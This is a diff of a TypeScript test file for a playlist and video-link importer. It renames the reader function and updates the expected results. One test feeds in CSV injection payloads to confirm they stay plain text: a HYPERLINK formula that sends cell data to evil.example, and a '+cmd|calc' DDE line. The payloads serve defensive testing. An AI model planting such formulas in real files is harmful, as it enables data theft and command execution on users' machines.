@@ -4,7 +4,7 @@ import { afterAll, beforeAll, expect, test } from 'vitest'
 import type { LibraryImport } from '#contract/library-import.ts'
 import type { Playlist, PlaylistView } from '#contract/playlists.ts'
 import { newPerson, startTestServer, type TestServer } from '#tests/deps.ts'
-import { readVideoList } from './read-links.ts'
+import { readVideoLists } from './read-links.ts'
 
 let server: TestServer
 beforeAll(async () => {
@@ -102,13 +102,9 @@ test('a long list is divided, and one that is too long is refused', async () => 
 test('formulas and markup in a CSV stay words', async () => {
   const harmful =
     '=HYPERLINK("https://evil.example?v="&A1),2024-01-01T00:00:00Z\n+cmd|calc!A1,2024-01-01\n-dQw4w9WgXcQ,2024-01-01T00:00:00Z\n"dQw4w9WgXcQ",2024-01-01T00:00:00Z'
-  expect(await readVideoList(harmful, '=1+1<b>-videos.csv', { left: 100 })).toEqual({
-    isTakeout: true,
-    name: '=1+1<b>',
-    videoIds: ['dQw4w9WgXcQ'],
-    unreadable: 0,
-    unreadableNames: [],
-  })
+  expect(await readVideoLists(harmful, '=1+1<b>-videos.csv', { left: 100 })).toEqual([
+    { kind: 'takeout', name: '=1+1<b>', videoIds: ['dQw4w9WgXcQ'], unreadable: 0, unreadableNames: [] },
+  ])
 })
 
 test('lists of one name become one playlist, and none is refused because another one has its name', async () => {
@@ -147,10 +143,9 @@ test('lines that are no video are counted, and five hundred of them are named', 
   const ann = newPerson(server)
   await ann.signUpConfirmed()
   const words = Array.from({ length: 700 }, (_, index) => `no video ${index}`)
-  // A line of more than 300 characters is not searched for links.
   const long = `https://youtu.be/jNQXAC9IVRw ${'x'.repeat(300)}`
   const { counts } = await importFile(ann, ['dQw4w9WgXcQ', long, ...words].join('\n'), 'links.txt')
-  expect(counts).toMatchObject({ videos: 1, unreadable: 701 })
+  expect(counts).toMatchObject({ videos: 2, unreadable: 700 })
   expect(counts.unreadableNames).toHaveLength(500)
 })
 
@@ -171,7 +166,7 @@ test('twenty thousand lines are read of all files together, and other requests g
   }
   setImmediate(tick)
   const harmful = `dQw4w9WgXcQ\n${`${')'.repeat(299)}a\n`.repeat(1998)}`
-  expect(await readVideoList(harmful, 'links.txt', { left: 2000 })).toMatchObject({ unreadable: 1998 })
+  expect(await readVideoLists(harmful, 'links.txt', { left: 2000 })).toMatchObject([{ unreadable: 1998 }])
   isRead = true
   expect(ticks).toBeGreaterThanOrEqual(19)
 })
@@ -179,5 +174,5 @@ test('twenty thousand lines are read of all files together, and other requests g
 test('a long description does not hide the title of a playlist', async () => {
   const described = older.replace('""",,', `""",${'about bees '.repeat(40)},`)
   expect(described).not.toBe(older)
-  expect(await readVideoList(described, 'anything.csv', { left: 100 })).toMatchObject({ name: 'Bees, and "more"' })
+  expect(await readVideoLists(described, 'anything.csv', { left: 100 })).toMatchObject([{ name: 'Bees, and "more"' }])
 })
